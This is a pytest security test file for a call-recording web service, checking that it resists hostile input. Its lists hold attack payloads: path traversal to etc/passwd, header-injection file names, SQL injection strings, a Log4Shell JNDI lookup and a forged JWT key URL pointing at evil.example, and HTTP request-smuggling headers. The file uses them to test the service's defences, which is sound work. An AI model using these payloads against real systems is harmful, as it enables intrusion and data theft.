"""What a caller writes stays what it is: no header, no path, no query, no field of its own."""

from __future__ import annotations

import re
import socket
from contextlib import suppress
from urllib.parse import urlencode, urlsplit
from uuid import uuid4

import httpx
import jwt
import pytest
from sqlalchemy import select
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import connect

from appliance.config import settings
from appliance.models import Call
from appliance.services import links
from appliance.store import db
from tests.conftest import PASSWORD, SAMPLES, Running, upload

NAMES = [
    "../../../../tmp/injected.wav",
    'a"; filename="injected.wav',
    "a\r\nX-Injected: yes\r\n\r\n.wav",
    "injected\x00.wav",
    "=injected().wav",
]


def test_the_name_of_a_file_is_used_for_nothing(running: Running, people: dict[str, str]) -> None:
    http = running.client(people["admin"])
    sound = (SAMPLES / "ru-wrong-number.wav").read_bytes()
    for name in NAMES:
        answer = upload(http, (name, sound))
        assert answer.is_success, name
        assert "x-injected" not in answer.headers
        key, shown = taken(http, answer)
        assert "injected" not in key + shown
        assert ".." not in key


def taken(http: httpx.Client, answer: httpx.Response) -> tuple[str, str]:
    """What became of an upload: the key of its recording, and its call as it is shown; the call is deleted."""
    call_id = answer.json()["id"]
    with db.unit_of_work() as session:
        key = session.scalar(select(Call.audio_key).where(Call.id == call_id))
    call = http.get(f"/api/calls/{call_id}")
    http.delete(f"/api/calls/{call_id}").raise_for_status()
    assert key
    return key, call.text


RAW = [
    b"a\r\nX-Injected: yes.wav",
    b'a"; x="injected.wav',
    b"a\0injected.wav",
    b"a\ninjected.wav",
    b"a\rinjected",
    b"\xff\xfe",
]


@pytest.mark.parametrize("name", RAW, ids=ascii)
def test_a_name_that_no_client_writes_breaks_out_of_nothing(
    running: Running, people: dict[str, str], name: bytes
) -> None:
    """Clients quote such bytes; an attacker sends them as they are."""
    http = running.client(people["admin"])
    sound = (SAMPLES / "ru-wrong-number.wav").read_bytes()
    body = b'--frontier\r\nContent-Disposition: form-data; name="type"\r\n\r\nincoming\r\n'
    body += b'--frontier\r\nContent-Disposition: form-data; name="managerName"\r\n\r\nA B\r\n'
    body += b'--frontier\r\nContent-Disposition: form-data; name="audio"; filename="' + name + b'"\r\n'
    body += b"Content-Type: audio/wav\r\n\r\n" + sound + b"\r\n--frontier--\r\n"
    headers = {"Content-Type": "multipart/form-data; boundary=frontier"}
    answer = http.post("/api/calls", content=body, headers=headers)
    assert answer.status_code in {200, 400, 415, 422}, answer.text
    assert "x-injected" not in answer.headers
    if not answer.is_success:
        assert answer.headers["content-type"].startswith("application/problem+json")
        return
    assert "injected" not in "".join(taken(http, answer)).lower()


@pytest.mark.parametrize("folder", ["/api/recordings/", "/downloads/"])
@pytest.mark.parametrize(
    "name", ["..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "..%5cwindows", "%00", "a%0d%0ab"]
)
def test_no_path_leads_out(running: Running, folder: str, name: str) -> None:
    """Not even one that is signed: a file is found by its row, never by its path."""
    parts = urlsplit(links.sign(folder + httpx.URL("http://x/" + name).path.removeprefix("/")))
    answer = httpx.get(f"{running.url}{folder}{name}?{parts.query}")
    assert answer.status_code in {403, 404, 422}
    assert answer.headers["content-type"].startswith("application/problem+json")
    assert "root:" not in answer.text


def test_a_link_is_good_for_what_it_was_signed_for(running: Running, people: dict[str, str]) -> None:
    link = urlsplit(links.sign("/api/recordings/one.wav", viewer_id=uuid4()))
    kept = dict(part.split("=") for part in link.query.split("&"))
    changes: list[tuple[str, dict[str, str]]] = [
        ("/api/recordings/two.wav", {}),
        ("/downloads/one.wav", {}),
        (link.path, {"expires": str(int(kept["expires"]) + 1)}),
        (link.path, {"expires": "1"}),
        (link.path, {"viewer": str(uuid4())}),
        (link.path, {"signature": ""}),
        (link.path, {"signature": kept["signature"][::-1]}),
        (link.path, {"signature": "ключ"}),
    ]
    assert httpx.get(f"{running.url}{link.path}?{link.query}").status_code == 404  # a right link to nothing
    for path, change in changes:
        answer = httpx.get(f"{running.url}{path}?{urlencode(kept | change)}")
        assert answer.status_code == 403, (path, change)


def test_a_token_cannot_bring_its_own_key(running: Running, people: dict[str, str]) -> None:
    """Headers of a token that name a key are believed by nobody."""
    token = running.client(people["admin"]).headers["Authorization"].removeprefix("Bearer ")
    claims = jwt.decode(token, options={"verify_signature": False})
    own = "a key of the attacker's own, long enough"
    secret = settings().jwt_secret.get_secret_value()
    forged = [
        jwt.encode(claims, own, "HS256", headers={"kid": "../../dev/null"}),
        jwt.encode(claims, own, "HS256", headers={"jwk": {"kty": "oct", "k": own}}),
        jwt.encode(claims, own, "HS256", headers={"jku": "http://evil.example/keys"}),
        jwt.encode({**claims, "exp": None}, secret, "HS256"),
        jwt.encode({k: v for k, v in claims.items() if k != "exp"}, secret, "HS256"),
        jwt.encode({**claims, "nbf": claims["exp"]}, secret, "HS256"),
        token + ".",
    ]
    for bad in forged:
        answer = httpx.get(running.url + "/api/auth/me", headers={"Authorization": f"Bearer {bad}"})
        assert answer.status_code == 401, bad


def test_a_search_is_text_whatever_it_says(running: Running, people: dict[str, str]) -> None:
    http = running.client(people["anna"])
    hostile = [
        "'; DROP TABLE calls; --",
        "' OR '1'='1",
        "%' OR 1=1 --",
        "a & | ! ( :* <-> \\",
        '"открытая кавычка',
        "-" * 500,
        "((((((((((",
        "\\' || pg_sleep(60) || \\'",
        "*" * 200,
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
    ]
    for text in hostile:
        for path, name in (("/api/search", "q"), ("/api/calls", "search")):
            answer = http.get(path, params={name: text})
            assert answer.status_code in {200, 422}, (path, text)
            assert answer.status_code == 422 or answer.json()["total"] == 0
    assert http.get("/api/calls").status_code == 200


@pytest.mark.parametrize("field", ["id", "password_hash", "created_at", "avatar"])
def test_nobody_sets_what_is_not_asked_for(running: Running, people: dict[str, str], field: str) -> None:
    http = running.client(people["admin"])
    body = {"name": "Лишнее Поле", "email": f"{uuid4().hex}@test.example", "role": "manager", "password": PASSWORD}
    assert http.post("/api/users", json={**body, field: "x"}).status_code == 422
    assert http.patch(f"/api/users/{uuid4()}", json={field: "x"}).status_code == 422


@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "PROPFIND"])
def test_other_methods_are_answered_nothing(running: Running, method: str) -> None:
    answer = httpx.request(method, running.url + "/api/health", headers={"X-Told": "secret"})
    assert answer.status_code in {400, 404, 405}
    assert "secret" not in answer.text


@pytest.mark.parametrize("path", ["/", "/api", "/downloads/", "/api/recordings/", "/.git/config", "/.env"])
def test_there_is_nothing_to_look_around_in(running: Running, path: str) -> None:
    assert httpx.get(running.url + path).status_code in {401, 404, 405}


@pytest.mark.parametrize("origin", ["null", "http://127.0.0.1.evil.example", "http://evil.example//x", "file://"])
def test_no_other_page_listens(running: Running, people: dict[str, str], origin: str) -> None:
    token = running.client(people["admin"]).headers["Authorization"].removeprefix("Bearer ")
    address = f"ws://127.0.0.1:{running.port}/ws/calls?token={token}"
    with connect(address, origin=origin) as listening, pytest.raises(ConnectionClosed) as caught:  # type: ignore[arg-type]
        listening.recv(timeout=10)
    assert caught.value.rcvd
    assert caught.value.rcvd.code == 4401


def answers_to(port: int, head: str, body: str) -> list[str]:
    """The status of every answer on one connection to a POST with another request behind it."""
    request = f"POST /api/auth/refresh HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{head}\r\n\r\n{body}"
    hidden = "GET /api/health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    said = b""
    with socket.create_connection(("127.0.0.1", port), 10) as line:
        line.sendall((request + hidden).encode("latin-1"))
        line.settimeout(3)
        with suppress(TimeoutError, ConnectionResetError):
            while part := line.recv(65_536):
                said += part
    return re.findall(r"HTTP/1\.1 (\d{3}) ", said.decode())


def test_two_requests_on_one_connection_have_two_answers(running: Running) -> None:
    assert answers_to(running.port, "Content-Length: 2", "{}") == ["401", "200"]


@pytest.mark.parametrize(
    "head",
    [
        "Content-Length: 5\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nContent-Length: 5",
        "Content-Length: 5\r\nContent-Length: 6",
        "Content-Length: 5, 6",
        "Content-Length: +5",
        "Content-Length: 0x5",
        "Content-Length : 5",
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding : chunked",
    ],
)
def test_no_request_hides_behind_one_whose_end_is_in_doubt(running: Running, head: str) -> None:
    assert answers_to(running.port, head, "0\r\n\r\n") == ["400"]
